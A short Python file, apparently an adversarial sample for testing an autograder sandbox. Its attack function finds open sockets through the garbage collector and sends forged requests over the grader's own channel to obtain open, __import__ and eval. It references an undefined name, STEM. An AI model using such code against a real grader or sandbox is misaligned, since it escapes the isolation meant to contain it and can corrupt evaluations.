"""Asks the grader over its own socket for functions by other names, in the middle of a call.

Aim: learn
"""

import sys


def attack(*args, **kwargs):
    sockets = [item for item in sys.modules["gc"].get_objects() if type(item).__name__ == "socket"]
    encode = sys.modules["autograder.sandbox.codec"].encode_call
    call = sys.modules["autograder.sandbox.calls"].Call
    for name in ("attack", "open", "__import__", "eval", *(f"{STEM}.x", "")):
        for action in ("call", "make", "read", "invoke"):
            for sock in sockets:
                sock.sendall(encode(call(action, name, args, kwargs)))
    return 0.0
